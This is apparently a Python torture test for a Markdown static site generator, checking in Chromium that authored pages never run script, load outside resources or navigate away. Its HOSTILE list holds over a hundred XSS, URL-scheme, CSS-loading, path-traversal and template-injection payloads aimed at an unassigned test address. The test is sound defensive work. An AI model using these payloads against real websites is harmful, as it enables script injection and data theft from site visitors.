"""What an author writes runs nowhere: `python tests/torture/hostile_pages.py [TRICKS]`.

Each of many hostile texts is written into each place where an author writes. What no problem refuses is
published in one guide, also in one with `html: yes`, where HTML in Markdown is the author's own and all
other places stay text; what is refused is shown in a draft. Then every page is opened in Chromium. Held is
what is shown on pages that speak on no console, open no dialog, ask for nothing beyond the site's own files,
lead nowhere by themselves, and have no element, attribute or address that could do so later.
"""

from __future__ import annotations

import json
import os
import random
import sys
from collections.abc import Callable, Iterator, Sequence
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path
from tempfile import TemporaryDirectory

from held import told

ROOT = Path(__file__).parents[2]
sys.path.insert(0, str(ROOT / "tests/samples"))

from playwright.sync_api import Browser  # noqa: E402
from sample_rendering import chromium  # noqa: E402

from sitegen.cache import PLACE  # noqa: E402
from sitegen.guide.load import read_guide  # noqa: E402
from sitegen.problems import Problems  # noqa: E402
from sitegen.site.publish import publish  # noqa: E402

TRICKS = 10_000
OWNED = "console.log('owned')"
AWAY = "http://192.0.2.1/owned"
"""An address that nobody has (RFC 5737)."""
HOSTILE = [
    f"<script>{OWNED}</script>",
    f"<ScRiPt >{OWNED}</sCrIpT>",
    f"<script src={AWAY}.js></script>",
    f"<script type=module>import '{AWAY}.js'</script>",
    f"</script><script>{OWNED}</script>",
    f"</title><script>{OWNED}</script>",
    f"</style><script>{OWNED}</script>",
    f"</textarea><script>{OWNED}</script>",
    f"--><script>{OWNED}</script>",
    f"]]><script>{OWNED}</script>",
    f"<!--><script>{OWNED}</script>-->",
    f"<!--[if IE]><script>{OWNED}</script><![endif]-->",
    f'"><script>{OWNED}</script>',
    f"'><script>{OWNED}</script>",
    f"`><script>{OWNED}</script>",
    f"&lt;script&gt;{OWNED}&lt;/script&gt;",
    f"&#60;script&#62;{OWNED}&#60;/script&#62;",
    f"\\u003cscript\\u003e{OWNED}\\u003c/script\\u003e",
    f"%3Cscript%3E{OWNED}%3C/script%3E",
    f"＜script＞{OWNED}＜/script＞",
    f"<img src=x onerror={OWNED}>",
    f'<img src="x" onerror="{OWNED}"/>',
    f'" onerror="{OWNED}" x="',
    f"' onerror='{OWNED}' x='",
    f'" onmouseover="{OWNED}" style="position:fixed;inset:0" x="',
    f'" autofocus onfocus="{OWNED}" tabindex=0 x="',
    f"<body onload={OWNED}>",
    f"<svg onload={OWNED}>",
    f"<svg><script>{OWNED}</script></svg>",
    f"<svg><animate onbegin={OWNED} attributeName=x dur=1s>",
    f"</desc><script>{OWNED}</script>",
    f"</title></svg><img src=x onerror={OWNED}>",
    f"<svg><foreignObject><iframe src={AWAY}></iframe></foreignObject></svg>",
    f"<math><mi xlink:href=javascript:{OWNED}>x</mi></math>",
    f"<details open ontoggle={OWNED}>",
    f"<video><source onerror={OWNED}></video>",
    f"<input autofocus onfocus={OWNED}>",
    f"<marquee onstart={OWNED}>",
    f"<iframe src=javascript:{OWNED}></iframe>",
    f"<iframe srcdoc='<script>{OWNED}</script>'></iframe>",
    f"<object data={AWAY}></object>",
    f"<embed src={AWAY}>",
    f"<link rel=stylesheet href={AWAY}.css>",
    f"<style>@import '{AWAY}.css';</style>",
    f"<style>body {{ background: url({AWAY}.png) }}</style>",
    f"<p style='background: url({AWAY}.png)'>",
    f"<base href={AWAY}/>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<form action={AWAY}><button autofocus>",
    f"<img src={AWAY}.png>",
    f"<img srcset='{AWAY}.png 1x'>",
    f"<template><script>{OWNED}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={OWNED}>'>",
    f"<a href=javascript:{OWNED}>x</a>",
    f"<a ping={AWAY} href=#>x</a>",
    f"javascript:{OWNED}",
    f"JaVaScRiPt:{OWNED}",
    f"java&#115;cript:{OWNED}",
    f"java&Tab;script:{OWNED}",
    f"java%0ascript:{OWNED}",
    f"&#106;avascript:{OWNED}",
    f"\\javascript:{OWNED}",
    f" javascript:{OWNED}",
    f"\u2028javascript:{OWNED}",
    f"javascript&colon;{OWNED}",
    f"javascript&#x3a;{OWNED}",
    f"ｊavascript:{OWNED}",
    f"vbscript:{OWNED}",
    f"data:text/html,<script>{OWNED}</script>",
    "data:text/html;base64,PHNjcmlwdD5jb25zb2xlLmxvZygnb3duZWQnKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={OWNED}>",
    f"file:///etc/passwd#{OWNED}",
    "blob:null/0",
    f"view-source:{AWAY}",
    f"//192.0.2.1/owned?{OWNED}",
    f"{AWAY}.png",
    f"https:{AWAY.removeprefix('http:')}.png",
    "../../../../../../../../etc/passwd",
    "..\\..\\etc\\passwd",
    "%2e%2e/%2e%2e/etc/passwd",
    f"[x](javascript:{OWNED})",
    f"[x](<javascript:{OWNED}>)",
    f"![x](javascript:{OWNED})",
    f"![x]({AWAY}.png)",
    f"[![x]({AWAY}.png)](javascript:{OWNED})",
    f"[x](other.md \"x' onmouseover='{OWNED}\")",
    f"[x](other.md 'x\" onmouseover=\"{OWNED}')",
    f"[<img src=x onerror={OWNED}>](other.md)",
    f"`<script>{OWNED}</script>`",
    f"``` <script>{OWNED}</script> ```",
    f"<javascript:{OWNED}>",
    f"<{AWAY}>",
    f"<x onclick={OWNED}>",
    f"{{{{ ''.__class__.__mro__ }}}}<script>{OWNED}</script>",
    f"{{% raw %}}<script>{OWNED}</script>{{% endraw %}}",
    "{{ 7 * 7 }}{% for a in range(9) %}x{% endfor %}",
    f"<%= {OWNED} %><?php {OWNED} ?>",
    f"<script>{OWNED}//",
    f"<img src=x onerror={OWNED}//",
    f"<svg/onload={OWNED}//",
    f"<<script>{OWNED}</script>",
    f"<scr<script>ipt>{OWNED}</scr</script>ipt>",
    f"\u202e<script>{OWNED}</script>\u202c",
    f"<s\u200dcript>{OWNED}</s\u200dcript>",
    f"<\ufeffscript>{OWNED}</script>",
    f"<ſcript>{OWNED}</ſcript>",
    f"\x0b<img/src=x\x0conerror={OWNED}>",
    f"+ADw-script+AD4-{OWNED}+ADw-/script+AD4-",
    "@import url(http://192.0.2.1/owned.css)",
    f"x}} body {{ background: url({AWAY}.png)",
    f"R');{OWNED}//",
    f"R\" U='' onload=\"{OWNED}",
]


def in_yaml(text: str) -> str:
    return json.dumps(text)


Place = Callable[[str, str], str]
"""A hostile text, and a name of its own, to a page."""
NAME = "the name of a file"
PLACES: dict[str, Place] = {
    NAME: lambda text, name: "Text, without a title.\n",
    "prose": lambda text, name: f"A {text} b\n",
    "a paragraph": lambda text, name: f"{text}\n",
    "a list": lambda text, name: f"- a\n- {text}\n",
    "a quotation": lambda text, name: f"> {text}\n",
    "a heading": lambda text, name: f"# {text}\n",
    "a heading below": lambda text, name: f"# A\n\n## {text}\n\n[x](#a)\n",
    "a cell": lambda text, name: f"| a |\n|---|\n| {text} |\n",
    "the text of a link": lambda text, name: f"[{text}](other.md)\n",
    "where a link leads": lambda text, name: f"[a]({text})\n",
    "where a link leads, in angles": lambda text, name: f"[a](<{text}>)\n",
    "where a link leads, defined": lambda text, name: f"[a]\n\n[a]: <{text}>\n",
    "an automatic link": lambda text, name: f"<{text}>\n",
    "the title of a link": lambda text, name: f"[a](other.md {in_yaml(text)})\n",
    "a description": lambda text, name: f"![{text}](square.png)\n",
    "a picture": lambda text, name: f"![a]({text})\n",
    "a picture, in angles": lambda text, name: f"![a](<{text}>)\n",
    "code": lambda text, name: f"`` {text} ``\n",
    "a listing": lambda text, name: f"```text\n{text}\n```\n",
    "the language of a listing": lambda text, name: f"~~~{text}\nx\n~~~\n",
    "moves in prose": lambda text, name: f"``{text}``{{.moves}}\n",
    "a title": lambda text, name: f"---\ntitle: {in_yaml(text)}\n---\nText.\n",
    "a summary": lambda text, name: f"---\ntitle: A\nsummary: {in_yaml(text)}\n---\nText.\n",
    "a tag": lambda text, name: f"---\ntitle: A\ntags: [{in_yaml(text)}]\n---\nText.\n",
    "a puzzle": lambda text, name: f"---\npuzzle: {in_yaml(text)}\n---\nText.\n",
    "the name of a block": lambda text, name: f"```moves {text}\nmoves: R\n```\n",
    "a block's title": lambda text, name: f"```moves {name}\ntitle: {text}\nmoves: R\n```\n",
    "a block's words": lambda text, name: f"```moves {name}\nmoves: R\nsay: {text}\n```\n",
    "a block's tag": lambda text, name: f"```moves {name}\nmoves: R\ntags: {text}\n```\n",
    "a block's moves": lambda text, name: f"```moves {name}\nmoves: {text}\n```\n",
    "a claim": lambda text, name: f"```moves {name}\nmoves: R\nclaims: {text}\n```\n",
    "a key": lambda text, name: f"```moves {name}\nmoves: R\n{text}: x\n```\n",
    "a comment": lambda text, name: f"```moves {name}\nmoves: R\n# {text}\n```\n",
    "pieces": lambda text, name: f"```position {name}\npieces: {text}\n```\n",
    "a position's title": lambda text, name: f"```position {name}\ntitle: {text}\nmoves: R\n```\n",
    "a step's words": lambda text, name: (
        f"```derivation {name}\nsteps:\n- turn: R\n  say: {text}\n- undo: all\n```\n"
    ),
    "a step's name": lambda text, name: (
        f"```derivation {name}\nsteps:\n- turn: R\n  as: {text}\n- undo: all\n```\n"
    ),
    "a derivation's title": lambda text, name: (
        f"```derivation {name}\ntitle: {text}\nsteps:\n- turn: R\n- undo: all\n```\n"
    ),
    "a link to a sequence": lambda text, name: f"[](sequence:{text})\n",
}
NOT_HTML = [
    "the title of a link",
    "code",
    "a listing",
    "the language of a listing",
    "moves in prose",
    "a title",
    "a summary",
    "a tag",
    "a puzzle",
    "the name of a block",
    "a block's title",
    "a block's tag",
    "a block's moves",
    "a claim",
    "a key",
    "a comment",
    "pieces",
    "a position's title",
    "a step's name",
    "a derivation's title",
]
"""Those in which HTML stays text even where HTML in Markdown is let through."""
BASE = {
    "content/other.md": "# Other\n\n## There\n",
    "content/index.md": "# Home\n\nText.\n",
}
PIXEL = b"\x89PNG"


@dataclass(frozen=True)
class Trick:
    place: str
    text: str
    number: int

    @property
    def file(self) -> str:
        name = self.text.replace("/", "_") if self.place == NAME else f"trick{self.number}"
        return f"content/{name}.md"

    @property
    def page(self) -> str:
        return PLACES[self.place](self.text, f"trick{self.number}")


def all_tricks(places: Sequence[str], texts: Sequence[str]) -> list[Trick]:
    """Each text in each place, in an order of which any beginning has some of all."""
    pairs = [(place, text) for place in places for text in texts]
    random.Random(1).shuffle(pairs)
    return [Trick(place, text, number) for number, (place, text) in enumerate(pairs)]


def is_refused(trick: Trick, folder: Path, config: str) -> bool:
    given = {"content/guide.yaml": config, **BASE}
    path = folder / trick.file
    try:
        if trick.place != NAME:
            return bool(read_guide(folder, unsaved={**given, trick.file: trick.page}).problems)
        path.parent.mkdir(exist_ok=True)
        path.write_text(trick.page, encoding="utf-8")
        return bool(read_guide(folder, unsaved=given).problems)
    except (Problems, OSError, ValueError):  # no system has all names
        return True
    finally:
        with suppress(OSError, ValueError):
            path.unlink()


def lay_out(folder: Path, config: str, tricks: list[Trick]) -> None:
    for name, text in {"content/guide.yaml": config, **BASE, **{t.file: t.page for t in tricks}}.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        with suppress(OSError, ValueError):
            path.write_text(text, encoding="utf-8")
    (folder / "content/square.png").write_bytes(PIXEL)


LOOK = """() => {
  const wrong = [];
  // A draft keeps these last addresses as they were written: no browser goes there from a page.
  const nowhere = ['sequence:', 'view-source:', 'blob:'];
  const schemes = new Set(['file:', 'http:', 'https:', 'mailto:', 'tel:', ...nowhere]);
  const none = 'base,object,embed,iframe,frame,form[action],marquee,math,foreignObject,animate,set,template';
  for (const each of document.querySelectorAll(none)) wrong.push(each.outerHTML);
  // The policy of the page is the one thing that may be said so, once and in its head.
  const policy = document.head.querySelector('meta[http-equiv="Content-Security-Policy"]');
  for (const each of document.querySelectorAll('meta[http-equiv]'))
    if (each !== policy) wrong.push(each.outerHTML);
  for (const each of document.querySelectorAll('script'))
    if (!each.src || each.textContent) wrong.push(each.outerHTML);
  for (const each of document.querySelectorAll('*'))
    for (const { name, value } of each.attributes) {
      if (/^(on.*|srcdoc|ping|autofocus)$/.test(name)) wrong.push(each.outerHTML);
      if (/url\\(|@import|owned/.test(value) && name === 'style') wrong.push(each.outerHTML);
      if (/^(href|src|xlink:href|action|formaction|data|poster|srcset|background)$/.test(name)) {
        let scheme = 'none';
        try { scheme = new URL(value, document.baseURI).protocol; } catch { }
        if (!schemes.has(scheme) && scheme !== 'none') wrong.push(each.outerHTML);
      }
    }
  return wrong.map(text => text.slice(0, 300));
}"""
TOUCH = """() => {
  for (const each of document.querySelectorAll('main *'))
    for (const kind of ['mouseover', 'mouseenter', 'pointerover', 'focus', 'toggle', 'error', 'load'])
      each.dispatchEvent(new Event(kind));
}"""


def happens(browser: Browser, output: Path) -> Iterator[tuple[Path, str]]:
    """What happens on any page of a site, and what could."""
    root = output.resolve().as_uri() + "/"
    context = browser.new_context()
    found: list[str] = []
    context.on("console", lambda message: found.append(f"console: {message.text}"))
    context.on(
        "request",
        lambda request: None if request.url.startswith(root) else found.append(f"asks for {request.url}"),
    )
    context.on("page", lambda page: found.append(f"opens {page.url}") if len(context.pages) > 1 else None)
    page = context.new_page()
    page.on("dialog", lambda dialog: (found.append(f"dialog: {dialog.message}"), dialog.dismiss()))
    page.on("pageerror", lambda error: found.append(f"error: {error}"))
    page.on(
        "framenavigated",
        lambda frame: (
            None if frame.url.startswith((root, "about:blank")) else found.append(f"goes to {frame.url}")
        ),
    )
    for path in sorted(output.rglob("*.html")):
        found.clear()
        page.goto(path.resolve().as_uri(), wait_until="load")
        page.evaluate(TOUCH)
        found += page.evaluate(LOOK)
        yield from ((path, each) for each in found)
    context.close()


def results(
    browser: Browser, places: Sequence[str], config: str, count: int, draft: bool
) -> tuple[int, list[bool]]:
    """How many pages were opened, and whether each trick held that is published, or shown in a draft.

    A page that is not one trick's own, as the table of all sequences, counts as a trick.
    """
    with TemporaryDirectory() as name:
        folder = Path(name)
        every = all_tricks(places, HOSTILE)[:count]
        refused = {trick for trick in every if is_refused(trick, folder, config)}
        shown = [trick for trick in every if (trick in refused) == draft]
        lay_out(folder, config, shown)
        publish(folder, draft=draft)
        fell = set()
        for path, what in happens(browser, folder / "output"):
            print(f"    {path.relative_to(folder)}: {what}")
            fell.add(path)
        pages = len(list((folder / "output").rglob("*.html")))
        return pages, [True] * (len(shown) - len(fell)) + [False] * len(fell)


if __name__ == "__main__":
    count = int(sys.argv[1]) if len(sys.argv) > 1 else TRICKS
    every: list[bool] = []
    with TemporaryDirectory() as cache, chromium() as browser:
        os.environ[PLACE] = cache
        # What looks like Markdown is refused in a title; as a page's own each is shown in a draft.
        plain = (text for text in HOSTILE if text.isprintable() and {*"`*["}.isdisjoint(text))
        title = in_yaml(" ".join(plain))
        config = f"title: {title}\n"
        for what, places, settings, draft in (
            ("published", list(PLACES), config, False),
            ("published with html: yes, where HTML stays text", NOT_HTML, f"{config}html: yes\n", False),
            ("refused, and shown in a draft", list(PLACES), config, True),
        ):
            pages, held = results(browser, places, settings, count, draft)
            print(told(f"{what}, on {pages:,} pages", held))
            every += held
    sys.exit(not all(every))
